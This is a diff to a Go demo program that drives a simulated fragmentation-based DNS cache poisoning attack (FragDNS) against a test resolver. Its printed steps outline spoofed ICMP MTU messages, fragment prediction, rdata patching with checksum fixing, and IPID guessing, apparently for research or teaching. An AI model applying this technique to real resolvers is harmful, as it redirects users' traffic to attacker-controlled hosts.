@@ -8,42 +8,30 @@ package main
 import (
 	"fmt"
 
-	"crosslayer/internal/core"
-	"crosslayer/internal/dnssrv"
 	"crosslayer/internal/dnswire"
-	"crosslayer/internal/resolver"
 	"crosslayer/internal/scenario"
 )
 
 func main() {
 	cfg := scenario.Config{Seed: 9}
-	cfg.ServerCfg = dnssrv.DefaultConfig()
-	cfg.ServerCfg.PadAnswersTo = 1200 // large responses fragment once the PMTU drops
+	scenario.OpenFragDNS(&cfg) // large responses fragment once the PMTU drops
 	s := scenario.New(cfg)
 
-	atk := &core.FragDNS{
-		Attacker:     s.Attacker,
-		ResolverAddr: scenario.ResolverIP,
-		NSAddr:       scenario.NSIP,
-		QName:        "www.vict.im.",
-		QType:        dnswire.TypeA,
-		SpoofAddr:    scenario.AttackerIP,
-		ForcedMTU:    68, // the server clamps to its floor (552)
-		ResolverEDNS: resolver.ProfileBIND.EDNSSize,
-		PredictIPID:  true, // the scenario NS uses a global IPID counter
-		IPIDGuesses:  64,
-		CheckSuccess: func() bool { return s.Poisoned("www.vict.im.", dnswire.TypeA) },
-	}
+	// The spoofed PTB advertises MTU 68 (the server clamps to its floor,
+	// 552), and the scenario NS's global IPID counter makes the guesses
+	// consecutive.
+	const qname = "www.vict.im."
+	atk := s.FragDNS(qname, scenario.Effort{IPIDGuesses: 64})
 	fmt.Println("step 1: spoofed ICMP PTB (MTU=68) -> nameserver caches a tiny path MTU")
 	fmt.Println("step 2: fetch the public response to predict the second fragment's bytes")
 	fmt.Println("step 3: patch A rdata -> 6.6.6.6, fix the sum inside the record's TTL")
 	fmt.Println("step 4: plant the fragment for 64 consecutive IPIDs, trigger the query")
-	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA))
+	res := atk.Run(s.Trigger(qname))
 
 	fmt.Printf("\nresult: success=%v iterations=%d attacker packets=%d\n",
 		res.Success, res.Iterations, res.AttackerPackets)
 	fmt.Printf("defrag cache reassemblies at the resolver: %d\n", s.ResolverHost.FragCache().Stats().Reassembled)
-	fmt.Printf("cache now says www.vict.im = attacker: %v\n", s.Poisoned("www.vict.im.", dnswire.TypeA))
+	fmt.Printf("cache now says www.vict.im = attacker: %v\n", s.Poisoned(qname, dnswire.TypeA))
 
 	// The challenge values were never guessed: zero rejected spoofs.
 	fmt.Printf("spoofed responses the resolver had to reject: %d (FragDNS guesses nothing)\n", s.Resolver.SpoofRejected)
